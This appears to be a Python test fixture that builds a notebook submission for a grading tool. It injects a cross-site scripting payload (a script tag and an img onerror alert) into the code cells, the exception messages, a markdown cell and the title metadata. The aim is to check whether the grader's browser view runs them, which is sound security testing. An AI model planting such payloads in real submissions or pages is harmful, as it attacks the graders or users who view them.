"""Puts scripts into text, outputs, exceptions and metadata, to run in the grader's browser."""

import json

SCRIPT = "<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"


def make(folder, blank, right):
    for cell in blank["cells"]:
        if cell["cell_type"] == "code" and not cell["metadata"].get("nbgrader", {}).get("locked"):
            cell["source"] = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))\nraise ValueError({SCRIPT!r})"
    text = {"cell_type": "markdown", "id": "html", "metadata": {}, "source": SCRIPT}
    blank["cells"].insert(0, text)
    blank["metadata"]["title"] = SCRIPT
    (folder / "padding.ipynb").write_text(json.dumps(blank))
